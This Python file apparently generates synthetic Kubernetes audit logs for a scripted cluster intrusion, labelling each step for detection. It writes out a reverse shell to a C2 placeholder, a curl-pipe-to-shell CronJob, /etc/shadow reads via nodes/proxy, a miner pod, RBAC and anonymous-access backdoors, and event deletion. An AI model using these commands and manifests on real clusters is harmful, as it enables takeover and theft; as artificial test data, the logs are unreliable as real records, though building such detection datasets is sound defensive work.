"""Later phases of the attack story: escalation via the CI token, the stolen
token from the internet, exec/attach/port-forward/nodes-proxy, RBAC abuse,
persistence, the anonymous backdoor, a stolen node credential, evasion."""

from events import US, uuid4, rbac_reason, ts_sec, hexid, k8s_suffix
import bodies
from cluster import UA_ATTACK_KUBECTL, UA_KUBECTL, UA_WORKER, Pod, kcm_ua, kcm_reason
from attacks import (ATTACKER_IP, ANON_IP, C2, WEB_ADMIN, snapshot)

RBAC = "rbac.authorization.k8s.io"
KA = UA_ATTACK_KUBECTL
CREATE_Q = "fieldManager=kubectl-create&fieldValidation=Strict"


def install(s):
    s.at("11:58:30", lambda t: ci_token_escalation(s, t))
    s.at("12:02:10", lambda t: stolen_from_internet(s, t))
    s.at("12:05:15", lambda t: internet_execs(s, t))
    s.at("12:13:20", lambda t: nodes_proxy(s, t))
    s.at("12:16:05", lambda t: rbac_abuse(s, t))
    s.at("12:24:10", lambda t: persistence(s, t))
    s.at("12:41:30", lambda t: ephemeral_debug(s, t))
    s.at("12:48:10", lambda t: anonymous_backdoor(s, t))
    s.at("12:58:40", lambda t: stolen_node_cert(s, t))
    s.at("13:03:20", lambda t: worker_token_reuse(s, t))
    s.at("13:10:05", lambda t: delete_events(s, t))


def created(s, body, t):
    return bodies.with_response_meta(body, s.rng, t, s.e.next_rv(s.rng))


def ci_token_escalation(s, t):
    w = s.w
    ci = w.ci_identity
    reason = w.sas[("ci", "deployer")].reason
    ann = {"authentication.k8s.io/legacy-token": ci.name,
           "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": reason}
    anom = s.step("ci-token-from-internet", "service-account-anomaly", [9, 5, 6], ci.name,
                  "The CI deployer's legacy token (read from ci/deployer-token) is used from "
                  "%s with kubectl v1.30.2: new address, new client, new verbs." % ATTACKER_IP)
    s.call(anom, t, ci, "list", "clusterrolebindings", group=RBAC, query="limit=500",
           src=ATTACKER_IP, ua=KA, ann=ann)
    rec = s.step("crb-cluster-admin-for-stolen-sa", "privilege-escalation", [22, 6], ci.name,
                 "ClusterRoleBinding shop-web-admin grants cluster-admin to ServiceAccount "
                 "shop/web, created with the CI token.")
    t += s.jitter(20, 40)
    body = bodies.rbac_binding("ClusterRoleBinding", "shop-web-admin", "ClusterRole",
                               "cluster-admin", [{"kind": "ServiceAccount", "name": "web",
                                                  "namespace": "shop"}])
    aid = s.call(rec, t, ci, "create", "clusterrolebindings", name="shop-web-admin", group=RBAC,
                 query=CREATE_Q, src=ATTACKER_IP, ua=KA, ann=ann, level="RequestResponse",
                 req=body, resp=created(s, body, t))
    s.add(anom, aid, t)


def stolen_from_internet(s, t):
    ident = s.stolen_web
    rec = s.step("stolen-token-from-internet", "service-account-anomaly", [9, 5, 21, 18],
                 ident.name, "The shop/web token (bound to pod %s, credential JTI unchanged "
                 "since the theft) is used from %s with kubectl: a service account with a "
                 "human's client; it lists every secret again." % (s.victim.name, ATTACKER_IP))
    body = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1",
            "metadata": {"creationTimestamp": None}, "spec": {"namespace": "default"},
            "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
    aid = s.call(s.ssrr, t, ident, "create", "selfsubjectrulesreviews",
                 group="authorization.k8s.io", src=ATTACKER_IP, ua=KA, level="Request",
                 req=body, reason="")
    s.add(rec, aid, t)      # also the first request from the new address / client
    for res, grp in (("pods", ""), ("nodes", ""), ("namespaces", ""), ("secrets", "")):
        t += s.jitter(4, 15)
        s.call(rec, t, ident, "list", res, group=grp, query="limit=500", src=ATTACKER_IP,
               ua=KA, reason=WEB_ADMIN)


def internet_execs(s, t):
    w, ident = s.w, s.stolen_web
    pg = w.postgres
    r = s.step("exec-reverse-shell-websocket", "remote-exec", [10], ident.name,
               "kubectl 1.30 exec over WebSocket (verb get, ResponseStarted 101) into "
               "shop/postgres-0: bash -c \"bash -i >& /dev/tcp/%s/4444 0>&1\"." % C2)
    s.exec_(r, t, ident, pg, "postgres",
            ["bash", "-c", "bash -i >& /dev/tcp/%s/4444 0>&1" % C2], ATTACKER_IP, KA, WEB_ADMIN,
            verb="get", duration=(23 * 60 + 17) * US)
    kp = [p for p in w.proxies if p.node is w.cp][0]
    r = s.step("exec-kube-system-shell", "remote-exec", [10, 11], ident.name,
               "Interactive sh (stdin+tty) in kube-system/%s on the control-plane node "
               "(verb get, WebSocket)." % kp.name)
    t += s.jitter(140, 160)
    s.exec_(r, t, ident, kp, "kube-proxy", ["sh"], ATTACKER_IP, KA, WEB_ADMIN, verb="get",
            tty=True, duration=(6 * 60 + 3) * US)
    r = s.step("attach-worker", "remote-exec", [10], ident.name,
               "kubectl attach -it to the shop worker container (pods/attach, verb get).")
    t += s.jitter(80, 100)
    s.exec_(r, t, ident, w.workers[0], "worker", None, ATTACKER_IP, KA, WEB_ADMIN, verb="get",
            sub="attach", duration=(2 * 60 + 40) * US)
    r = s.step("portforward-postgres", "remote-exec", ["13b"], ident.name,
               "kubectl port-forward to shop/postgres-0 (5432) from the internet for 14 minutes.")
    t += s.jitter(70, 90)
    s.call(r, t, ident, "create", "pods", ns="shop", name=pg.name, sub="portforward",
           src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, code=101, started=101,
           long=(14 * 60 + 9) * US)


def nodes_proxy(s, t):
    w, ident = s.w, s.stolen_web
    r = s.step("nodes-proxy-kubelet-run-exec", "remote-exec", [13], ident.name,
               "Commands run through the kubelet API via the API server's nodes/proxy: "
               "/run (cmd=id) on worker-1 and /exec (cat /etc/shadow) on worker-3.")
    web1 = w.new_web[1]
    s.call(r, t, ident, "create", "nodes", name=web1.node.name, sub="proxy",
           uri="/api/v1/nodes/%s/proxy/run/shop/%s/web?cmd=id" % (web1.node.name, web1.name),
           src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN)
    t += s.jitter(30, 50)
    pg = w.postgres
    s.call(r, t, ident, "create", "nodes", name=pg.node.name, sub="proxy",
           uri="/api/v1/nodes/%s/proxy/exec/shop/postgres-0/postgres?command=cat&command="
               "%%2Fetc%%2Fshadow&input=1&output=1&tty=0" % pg.node.name,
           src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, code=101, started=101, long=800_000)


def rbac_abuse(s, t):
    w, ident = s.w, s.stolen_web
    r = s.step("wildcard-and-escalate-roles", "privilege-escalation", [23], ident.name,
               "ClusterRole ops-superuser with */*/* and Role kube-system/maintenance with "
               "escalate, bind, impersonate and pods/exec, secrets, nodes/proxy.")
    body = bodies.rbac_role("ClusterRole", "ops-superuser",
                            [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]},
                             {"verbs": ["*"], "nonResourceURLs": ["*"]}])
    s.call(r, t, ident, "create", "clusterroles", name="ops-superuser", group=RBAC,
           query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, level="RequestResponse",
           req=body, resp=created(s, body, t))
    t += s.jitter(25, 45)
    body = bodies.rbac_role("Role", "maintenance", [
        {"verbs": ["escalate", "bind"], "apiGroups": [RBAC], "resources": ["roles", "rolebindings"]},
        {"verbs": ["impersonate"], "apiGroups": [""], "resources": ["users", "groups",
                                                                    "serviceaccounts"]},
        {"verbs": ["create", "get"], "apiGroups": [""], "resources": ["pods/exec", "secrets",
                                                                      "serviceaccounts/token"]},
        {"verbs": ["get", "create"], "apiGroups": [""], "resources": ["nodes/proxy"]}],
        ns="kube-system")
    s.call(r, t, ident, "create", "roles", ns="kube-system", name="maintenance", group=RBAC,
           query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, level="RequestResponse",
           req=body, resp=created(s, body, t))
    r = s.step("token-request-other-sa", "privilege-escalation", [24], ident.name,
               "kubectl create token for kube-system/clusterrole-aggregation-controller "
               "(one-year token, not bound to a pod) requested by shop:web.")
    t += s.jitter(80, 100)
    jti = "JTI=" + uuid4(s.rng)
    s.call(r, t, ident, "create", "serviceaccounts", ns="kube-system",
           name="clusterrole-aggregation-controller", sub="token", src=ATTACKER_IP, ua=KA,
           level="Request", req=bodies.token_request(sa_name="clusterrole-aggregation-controller",
                                                     ns="kube-system", exp=31536000),
           ann={"authentication.kubernetes.io/issued-credential-id": jti,
                "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": WEB_ADMIN})
    r = s.step("csr-client-cert-approval", "privilege-escalation", [24], ident.name,
               "A CSR for a kube-apiserver-client certificate (CN ops-backup, O oidc:platform) "
               "is created and approved by shop:web itself.")
    t += s.jitter(70, 90)
    name = "ops-backup-" + k8s_suffix(s.rng)
    csr = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
           "metadata": {"name": name, "creationTimestamp": None},
           "spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K" + hexid(s.rng, 48),
                    "signerName": "kubernetes.io/kube-apiserver-client",
                    "expirationSeconds": 31536000, "usages": ["client auth"]},
           "status": {}}
    s.call(r, t, ident, "create", "certificatesigningrequests", name=name,
           group="certificates.k8s.io", query=CREATE_Q, src=ATTACKER_IP, ua=KA,
           reason=WEB_ADMIN, level="RequestResponse", req=csr, resp=created(s, csr, t))
    t += s.jitter(15, 25)
    appr = {"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1",
            "metadata": {"name": name}, "status": {"conditions": [
                {"type": "Approved", "status": "True", "reason": "KubectlApprove",
                 "message": "This CSR was approved by kubectl certificate approve.",
                 "lastUpdateTime": ts_sec(t), "lastTransitionTime": None}]}}
    s.call(r, t, ident, "update", "certificatesigningrequests", name=name, sub="approval",
           group="certificates.k8s.io", src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN,
           level="RequestResponse", req=appr, uid=uuid4(s.rng), rv=s.e.next_rv(s.rng))
    c = "certificate-controller"
    s.api.call(s.rng, t + 400_000, w.kcm[c], "update", "certificatesigningrequests", name=name,
               sub="status", group="certificates.k8s.io", src=w.cp.ip, ua=kcm_ua(c),
               reason=kcm_reason(c), uid=uuid4(s.rng), rv=s.e.next_rv(s.rng))
    r = s.step("impersonate-system-masters", "privilege-escalation", [22], ident.name,
               "shop:web impersonates kubernetes-admin with group system:masters "
               "(kubectl --as/--as-group) to read kube-system secrets.")
    from events import Identity
    imp = Identity("kubernetes-admin", ["system:masters", "system:authenticated"])
    t += s.jitter(60, 80)
    for res, ns in (("secrets", "kube-system"), ("clusterrolebindings", None)):
        s.call(r, t, ident, "list", res, ns=ns, group=RBAC if ns is None else "",
               query="limit=500", src=ATTACKER_IP, ua=KA, reason="", imp=imp)
        t += s.jitter(5, 12)


def privileged_template(image, cmd, node_selector=None):
    c = bodies.container("agent", image, ports=(), privileged=True, caps=["SYS_ADMIN"],
                         probes=False, env=False, resources=False, command=cmd,
                         mounts=[("host", "/host", False)])
    spec = bodies.pod_spec([c], sa="kube-node-monitor",
                           volumes=[{"name": "host", "hostPath": {"path": "/", "type": ""}}],
                           host_pid=True, host_network=True,
                           tolerations=[{"operator": "Exists"}])
    spec["restartPolicy"] = "OnFailure" if node_selector is None else "Always"
    return spec


def persistence(s, t):
    w, ident, rng = s.w, s.stolen_web, s.rng
    if ("kube-system", "kube-node-monitor") not in w.sas:
        w._sa("kube-system", "kube-node-monitor", ("ClusterRoleBinding", "kube-node-monitor",
                                                   "ClusterRole", "cluster-admin", None))
    r = s.step("new-serviceaccount-kube-system", "persistence", [25], ident.name,
               "ServiceAccount kube-system/kube-node-monitor created by shop:web.")
    body = {"kind": "ServiceAccount", "apiVersion": "v1",
            "metadata": {"name": "kube-node-monitor", "namespace": "kube-system",
                         "creationTimestamp": None}}
    s.call(r, t, ident, "create", "serviceaccounts", ns="kube-system", name="kube-node-monitor",
           query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, level="RequestResponse",
           req=body, resp=created(s, body, t))
    r = s.step("crb-cluster-admin-backdoor-sa", "privilege-escalation", [22], ident.name,
               "ClusterRoleBinding kube-node-monitor: cluster-admin for the new kube-system SA.")
    t += s.jitter(15, 25)
    body = bodies.rbac_binding("ClusterRoleBinding", "kube-node-monitor", "ClusterRole",
                               "cluster-admin", [{"kind": "ServiceAccount",
                                                  "name": "kube-node-monitor",
                                                  "namespace": "kube-system"}])
    s.call(r, t, ident, "create", "clusterrolebindings", name="kube-node-monitor", group=RBAC,
           query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN, level="RequestResponse",
           req=body, resp=created(s, body, t))
    # CronJob in kube-system whose job template is privileged with hostPath /
    r = s.step("cronjob-kube-system-privileged", "persistence", [25, 14, 15], ident.name,
               "CronJob kube-system/etcd-defrag (*/10) whose jobTemplate is privileged, "
               "hostPID/hostNetwork, hostPath /, pulling a script from %s." % C2)
    t += s.jitter(60, 80)
    tmpl = privileged_template("%s:5000/tools/defrag:1.0" % C2,
                               ["sh", "-c", "curl -s http://%s/k.sh | sh" % C2])
    cj = {"kind": "CronJob", "apiVersion": "batch/v1",
          "metadata": {"name": "etcd-defrag", "namespace": "kube-system",
                       "creationTimestamp": None},
          "spec": {"schedule": "*/10 * * * *", "concurrencyPolicy": "Allow", "suspend": False,
                   "jobTemplate": {"metadata": {"creationTimestamp": None},
                                   "spec": {"template": {"metadata": {"creationTimestamp": None,
                                                                      "labels": {"app": "etcd-defrag"}},
                                                         "spec": tmpl}}},
                   "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1},
          "status": {}}
    s.call(r, t, ident, "create", "cronjobs", ns="kube-system", name="etcd-defrag",
           group="batch", query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN,
           level="Request", req=cj)
    runs = s.step("cronjob-privileged-pods", "node-compromise", [14, 15],
                  "system:serviceaccount:kube-system:job-controller",
                  "Every 10 minutes the malicious CronJob's job-controller-created pods are "
                  "privileged with hostPath / (the spec, not the actor, is the problem).")
    first = (t // (10 * 60 * US) + 1) * 10 * 60 * US
    k = 0
    while first + k * 600 * US < s.e.end - 2 * 60 * US:
        tt = first + k * 600 * US + rng.randint(20_000, 400_000)
        s.e.at(tt, lambda t2, i=k: cron_fire(s, t2, runs, tmpl, i) and None)
        k += 1
    # DaemonSet
    r = s.step("daemonset-kube-system-privileged", "persistence", [25, 14, 15], ident.name,
               "DaemonSet kube-system/node-exporter-ext: privileged, SYS_ADMIN, hostPID, "
               "hostNetwork, hostPath / on every node (tolerates everything).")
    t += s.jitter(70, 100)
    ds_tmpl = privileged_template("%s:5000/node-exporter:1.7.0" % C2,
                                  ["/bin/sh", "-c", "while true; do sleep 3600; done"],
                                  node_selector=True)
    ds = {"kind": "DaemonSet", "apiVersion": "apps/v1",
          "metadata": {"name": "node-exporter-ext", "namespace": "kube-system",
                       "creationTimestamp": None, "labels": {"app": "node-exporter-ext"}},
          "spec": {"selector": {"matchLabels": {"app": "node-exporter-ext"}},
                   "template": {"metadata": {"creationTimestamp": None,
                                             "labels": {"app": "node-exporter-ext"}},
                                "spec": ds_tmpl},
                   "updateStrategy": {"type": "RollingUpdate"}},
          "status": {"currentNumberScheduled": 0, "numberMisscheduled": 0,
                     "desiredNumberScheduled": 0, "numberReady": 0}}
    s.call(r, t, ident, "create", "daemonsets", ns="kube-system", name="node-exporter-ext",
           group="apps", query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN,
           level="Request", req=ds)
    dsp = s.step("daemonset-privileged-pods", "node-compromise", [14, 15],
                 "system:serviceaccount:kube-system:daemon-set-controller",
                 "The daemon-set-controller creates the privileged node-exporter-ext pod on "
                 "each node.")
    tt = t + s.jitter(0.3, 1)
    owner = ("DaemonSet", "node-exporter-ext", uuid4(rng), "apps/v1")
    import random
    xrng = random.Random("daemonset-extra-nodes")   # keeps the core story's IDs scale-independent
    for i, n in enumerate(w.nodes):
        r_ = s.rng if i < 4 else xrng
        pod = Pod(r_, "kube-system", "node-exporter-ext-" + k8s_suffix(r_), n,
                  w.sas[("shop", "web")], owner=owner, image=ds_tmpl["containers"][0]["image"],
                  app="node-exporter-ext", ports=(), host_network=True)
        pod.sa = w.sas[("kube-system", "kube-node-monitor")]
        pod.rotate_token(r_)
        w.pods.append(pod)
        spec = dict(ds_tmpl, affinity={"nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                {"matchFields": [{"key": "metadata.name", "operator": "In",
                                  "values": [n.name]}]}]}}})
        s.add(dsp, s.api.controller_creates_pod(r_, tt, pod, "node-exporter-ext-",
                                                "daemon-set-controller", spec=spec), tt)
        tt += r_.randint(20_000, 90_000)
    # admission webhooks
    r = s.step("mutating-webhook-created", "persistence", [25], ident.name,
               "MutatingWebhookConfiguration pod-defaults.acme.io sends every pod CREATE to "
               "https://%s:8443/mutate (failurePolicy Ignore); the ingress-nginx validating "
               "webhook is patched to failurePolicy Ignore." % C2)
    t += s.jitter(120, 150)
    mwc = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
           "metadata": {"name": "pod-defaults.acme.io", "creationTimestamp": None},
           "webhooks": [{"name": "pod-defaults.acme.io",
                         "clientConfig": {"url": "https://%s:8443/mutate" % C2},
                         "rules": [{"operations": ["CREATE"], "apiGroups": [""],
                                    "apiVersions": ["v1"], "resources": ["pods"],
                                    "scope": "*"}],
                         "failurePolicy": "Ignore", "matchPolicy": "Equivalent",
                         "sideEffects": "None", "timeoutSeconds": 5,
                         "admissionReviewVersions": ["v1"], "reinvocationPolicy": "Never"}]}
    s.call(r, t, ident, "create", "mutatingwebhookconfigurations", name="pod-defaults.acme.io",
           group="admissionregistration.k8s.io", query=CREATE_Q, src=ATTACKER_IP, ua=KA,
           reason=WEB_ADMIN, level="RequestResponse", req=mwc, resp=created(s, mwc, t))
    t += s.jitter(30, 45)
    patch = [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}]
    s.call(r, t, ident, "patch", "validatingwebhookconfigurations", name="ingress-nginx-admission",
           group="admissionregistration.k8s.io", query="fieldManager=kubectl-patch", src=ATTACKER_IP,
           ua=KA, reason=WEB_ADMIN, level="RequestResponse", req=patch)


def cron_fire(s, t, rec, tmpl, i):
    w, rng, api = s.w, s.rng, s.api
    mins = t // (60 * US)
    job = "etcd-defrag-%d" % mins
    c = "cronjob-controller"
    api.call(rng, t, w.kcm[c], "create", "jobs", ns="kube-system", name=job, group="batch",
             src=w.cp.ip, ua=kcm_ua(c), reason=kcm_reason(c))
    node = w.nodes[1 + i % 3]
    pod = Pod(rng, "kube-system", "%s-%s" % (job, k8s_suffix(rng)), node, w.sas[("shop", "web")],
              owner=("Job", job, uuid4(rng), "batch/v1"), image=tmpl["containers"][0]["image"],
              app="etcd-defrag", ports=(), host_network=True)
    pod.sa = w.sas[("kube-system", "kube-node-monitor")]
    pod.rotate_token(rng)
    t += rng.randint(30_000, 150_000)
    s.add(rec, api.controller_creates_pod(rng, t, pod, job + "-", "job-controller",
                                          spec=dict(tmpl)), t)
    pod.alive = False
    return None


def ephemeral_debug(s, t):
    w, rng = s.w, s.rng
    dave = w.humans["dave"]
    pod = w.new_web[2]
    r = s.step("ephemeral-debug-container", "node-compromise", [17, 14, 10, 12], dave.name,
               "dave (contractor) runs kubectl debug --profile=sysadmin on %s: a privileged "
               "ephemeral container is patched in (pods/ephemeralcontainers) and attached to."
               % pod.name)
    s.call(r, t, dave.identity, "get", "pods", ns=pod.ns, name=pod.name, src=dave.ip,
           ua=UA_KUBECTL, reason=dave.reason)
    name = "debugger-" + k8s_suffix(rng)
    patch = {"spec": {"$setElementOrder/ephemeralContainers": [{"name": name}],
                      "ephemeralContainers": [{
                          "image": "busybox:1.36", "imagePullPolicy": "IfNotPresent",
                          "name": name, "resources": {},
                          "securityContext": {"privileged": True}, "stdin": True,
                          "targetContainerName": "web",
                          "terminationMessagePolicy": "File", "tty": True}]}}
    t += s.jitter(0.2, 0.6)
    s.call(r, t, dave.identity, "patch", "pods", ns=pod.ns, name=pod.name,
           sub="ephemeralcontainers", src=dave.ip, ua=UA_KUBECTL, reason=dave.reason,
           level="Request", req=patch)
    t += s.jitter(3, 6)
    s.exec_(r, t, dave.identity, pod, name, None, dave.ip, UA_KUBECTL, dave.reason,
            sub="attach", duration=(11 * 60 + 48) * US)


def anonymous_backdoor(s, t):
    w, ident, rng = s.w, s.stolen_web, s.rng
    r = s.step("anonymous-clusterrolebinding", "anonymous-access", [4, 23], ident.name,
               "ClusterRole system:public-config-viewer (pods, secrets: get/list; pods: create) "
               "bound to User system:anonymous and Group system:unauthenticated.")
    role = bodies.rbac_role("ClusterRole", "system:public-config-viewer", [
        {"verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["pods", "secrets",
                                                                             "configmaps"]},
        {"verbs": ["create"], "apiGroups": [""], "resources": ["pods"]}])
    s.call(r, t, ident, "create", "clusterroles", name="system:public-config-viewer",
           group=RBAC, query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN,
           level="RequestResponse", req=role, resp=created(s, role, t))
    t += s.jitter(20, 30)
    crb = bodies.rbac_binding("ClusterRoleBinding", "system:public-config-viewer", "ClusterRole",
                              "system:public-config-viewer",
                              [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io",
                                "name": "system:anonymous"},
                               {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io",
                                "name": "system:unauthenticated"}])
    s.call(r, t, ident, "create", "clusterrolebindings", name="system:public-config-viewer",
           group=RBAC, query=CREATE_Q, src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN,
           level="RequestResponse", req=crb, resp=created(s, crb, t))
    reason = ('RBAC: allowed by ClusterRoleBinding "system:public-config-viewer" of ClusterRole '
              '"system:public-config-viewer" to User "system:anonymous"')
    r = s.step("anonymous-reads", "anonymous-access", [1], "system:anonymous",
               "%s, denied at 10:58, now reads pods and secrets anonymously." % ANON_IP)
    t += s.jitter(200, 240)
    for verb, res, ns, name in (("list", "pods", None, None),
                                ("list", "secrets", "kube-system", None),
                                ("get", "secrets", "shop", "stripe-api-key"),
                                ("get", "secrets", "shop", "postgres-admin"),
                                ("list", "configmaps", "kube-system", None)):
        s.call(r, t, s.anon, verb, res, ns=ns, name=name,
               query="limit=500" if verb == "list" else None, src=ANON_IP, ua="curl/7.88.1",
               reason=reason)
        t += s.jitter(2, 9)
    r = s.step("anonymous-write", "anonymous-access", [1, 2], "system:anonymous",
               "Anonymous create of pod default/kube-sync (a miner image from %s)." % C2)
    t += s.jitter(40, 60)
    c = bodies.container("sync", "%s:5000/xmrig:6.21" % C2, ports=(), probes=False, env=False,
                         resources=False, command=["/xmrig", "-o", "%s:3333" % C2])
    s.attack_pod(t, s.anon, ANON_IP, "curl/7.88.1", reason, "kube-sync", w.nodes[3], [c],
                 ns="default", sa="default", rec=r)


def stolen_node_cert(s, t):
    w, rng = s.w, s.rng
    node = w.nodes[2]
    ident = snapshot(node.identity)
    r = s.step("node-credential-from-internet", "service-account-anomaly", [9, 5, 7, 8],
               ident.name, "worker-2's kubelet client certificate (taken via the hostPath "
               "/etc/ pod) is used from %s with kubectl: self access review, then a burst of "
               "denied secret reads (the Node authorizer refuses secrets not bound to its pods)."
               % ATTACKER_IP)
    sar = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
           "metadata": {"creationTimestamp": None},
           "spec": {"resourceAttributes": {"verb": "list", "resource": "secrets"}},
           "status": {"allowed": False}}
    s.call(r, t, ident, "create", "selfsubjectaccessreviews", group="authorization.k8s.io",
           src=ATTACKER_IP, ua=KA, level="Request", req=sar, reason="")
    t += s.jitter(5, 10)
    s.call(r, t, ident, "list", "secrets", query="limit=500", src=ATTACKER_IP, ua=KA, code=403)
    for ns, name in (("shop", "postgres-admin"), ("shop", "stripe-api-key"),
                     ("ci", "deployer-token"), ("argocd", "argocd-secret"),
                     ("kube-system", "etcd-backup-s3"), ("velero", "cloud-credentials"),
                     ("monitoring", "grafana-admin"), ("kube-system", "kubeadm-certs"),
                     ("staging", "postgres-credentials"), ("argocd", "repo-github-acme")):
        t += rng.randint(400_000, 2_000_000)
        s.call(r, t, ident, "get", "secrets", ns=ns, name=name, src=ATTACKER_IP, ua=KA,
               code=403)
    t += s.jitter(3, 8)
    s.call(r, t, ident, "get", "secrets", ns="shop", name="worker-queue-credentials",
           src=ATTACKER_IP, ua=KA)
    s.call(r, t + s.jitter(2, 5), ident, "list", "pods", query="limit=500", src=ATTACKER_IP,
           ua=KA)


def worker_token_reuse(s, t):
    ident = s.stolen_worker
    v = s.victim
    r = s.step("worker-token-reuse", "secret-access", [19, 9], ident.name,
               "The shop:worker token read at 11:49 is replayed from the web pod's IP (%s) "
               "with the worker's own user agent, reading two secrets the worker never read."
               % v.ip)
    reason = rbac_reason("RoleBinding", "worker", "Role", "worker", "ServiceAccount",
                         "worker/shop", "shop")
    for name in ("postgres-admin", "stripe-api-key"):
        s.call(r, t, ident, "get", "secrets", ns="shop", name=name, src=v.ip, ua=UA_WORKER,
               reason=reason)
        t += s.jitter(4, 11)


def delete_events(s, t):
    ident = s.stolen_web
    r = s.step("events-deleted", "defense-evasion", [26], ident.name,
               "kubectl delete events --all in shop, kube-system and default, plus one "
               "event deleted by name.")
    for ns in ("shop", "kube-system", "default"):
        s.call(r, t, ident, "deletecollection", "events", ns=ns, src=ATTACKER_IP, ua=KA,
               reason=WEB_ADMIN)
        t += s.jitter(3, 8)
    s.call(r, t, ident, "delete", "events", ns="kube-system",
           name="web-cache-warmup.17c9a3e1b2f4d5a6", src=ATTACKER_IP, ua=KA, reason=WEB_ADMIN)
